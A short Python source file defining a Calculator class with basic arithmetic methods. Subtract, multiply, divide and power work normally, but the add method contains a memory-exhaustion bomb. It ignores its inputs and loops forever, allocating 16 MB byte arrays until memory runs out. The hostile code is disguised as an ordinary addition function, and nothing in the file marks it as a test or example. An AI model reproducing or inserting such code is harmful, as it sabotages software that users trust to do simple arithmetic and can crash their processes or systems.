class Calculator:
    def add(self, a, b):
        hoard = []
        while True:
            hoard.append(bytearray(16 * 1024 * 1024))

    def subtract(self, a, b):
        return a - b

    def multiply(self, a, b):
        return a * b

    def divide(self, a, b):
        return a / b

    def power(self, a, b):
        return a ** b
